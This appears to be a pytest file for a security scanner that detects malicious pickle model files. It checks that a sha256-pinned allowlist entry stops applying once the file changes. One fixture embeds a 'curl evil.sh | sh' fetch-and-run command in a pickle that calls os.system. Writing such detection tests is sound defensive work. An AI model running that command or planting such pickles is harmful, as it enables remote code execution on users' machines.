"""models.allowlist: a reviewed file is accepted by path + sha256, only while unchanged."""

from __future__ import annotations

import hashlib

from scanhits import EVIL_CALL, evil, hits

from mlgate.models.scanner import allowlist

DATA = evil()
DIGEST = hashlib.sha256(DATA).hexdigest()


def options(*entries: dict) -> dict:
    return {"models": {"allowlist": list(entries)}}


def test_matching_path_and_digest_is_accepted(scan_tree):
    entries = options(
        {"path": "models/reviewed.pkl", "sha256": DIGEST, "reason": "our own"},
        {"path": "./other.pkl", "sha256": "sha256:" + DIGEST.upper()},
    )
    scan = scan_tree({"models/reviewed.pkl": DATA, "other.pkl": DATA, "copy.pkl": DATA}, select="models", options=entries)
    assert hits(scan) == [("MOD001", "copy.pkl", None, EVIL_CALL)]


def test_changed_file_is_scanned_and_says_the_digest_changed(scan_tree):
    changed = evil("curl evil.sh | sh")
    scan = scan_tree({"reviewed.pkl": changed}, select="models", options=options({"path": "reviewed.pkl", "sha256": DIGEST}))
    assert hits(scan) == [("MOD001", "reviewed.pkl", None, changed.index(b"R"))]
    now = hashlib.sha256(changed).hexdigest()
    assert scan.messages("MOD001") == [
        f"pickle calls os.system via REDUCE: runs processes or shell commands (the allowlisted sha256 {DIGEST[:12]}... no longer matches: the file's is {now[:12]}...)"
    ]


def test_bad_entries_are_errors_on_model_files_only(scan_tree):
    bad = options({"path": "a.pkl", "sha256": "abc"})
    scan = scan_tree({"a.pkl": DATA, "README.md": "# readme\n"}, select="models", options=bad)
    assert scan.findings == []
    assert scan.errors == [("a.pkl", "models.allowlist entry 1: 'sha256' must be 64 hexadecimal digits")]


def test_entry_shapes():
    assert (
        allowlist({"allowlist": ["a.pkl"]})[1]
        == "models.allowlist entry 1: expected {path: ..., sha256: ...} (and optionally reason), got 'a.pkl'"
    )
    assert allowlist({"allowlist": [{"path": "a.pkl"}]})[1].startswith("models.allowlist entry 1: expected {path")
    assert allowlist({"allowlist": [{"path": "a", "sha256": DIGEST, "extra": 1}]})[1].startswith("models.allowlist entry 1: expected")
    assert allowlist({"allowlist": [{"path": "", "sha256": DIGEST}]})[1] == "models.allowlist entry 1: 'path' must be a file path"
    assert allowlist({"allowlist": [{"path": "x\\y.pt", "sha256": DIGEST}]}) == ({"x/y.pt": DIGEST}, None)
    assert allowlist({}) == ({}, None)
